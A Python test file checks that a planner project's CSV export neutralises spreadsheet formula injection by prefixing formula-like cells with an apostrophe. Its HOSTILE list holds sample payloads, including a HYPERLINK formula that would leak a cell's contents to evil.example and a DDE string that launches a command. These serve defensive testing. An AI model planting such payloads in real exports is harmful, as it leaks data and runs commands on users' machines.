"""CSV exports never hand a spreadsheet a formula, whatever a name or title says."""

from __future__ import annotations

import csv
import io

from planner.documents.register_tables import FORMULA_STARTS, spreadsheet_safe, to_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,2)", "\tTab", "\rReturn", "=1+1"]


def test_formula_like_cells_are_written_as_text_and_can_be_restored() -> None:
    data = to_csv(["Name", "Value"], [[name, 50] for name in HOSTILE])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Name", "Value"]
    for written, (cell, value) in zip(HOSTILE, rows[1:], strict=True):
        assert cell == "'" + written  # text for any spreadsheet, never a formula
        assert not cell.startswith(FORMULA_STARTS)
        assert cell[1:] == written  # reversible: one apostrophe, nothing else changed
        assert value == "50"
    # Every text cell is quoted; numbers are not.
    records = data.decode("utf-8-sig").split("\r\n")[:-1]
    assert all(record.startswith('"') for record in records)


def test_ordinary_text_and_numbers_are_untouched() -> None:
    for value in ("Miriam Feirberg-Ikar", "Xi'an", "O'Brien", 42, None, "2026-05-09"):
        assert spreadsheet_safe(value) == value
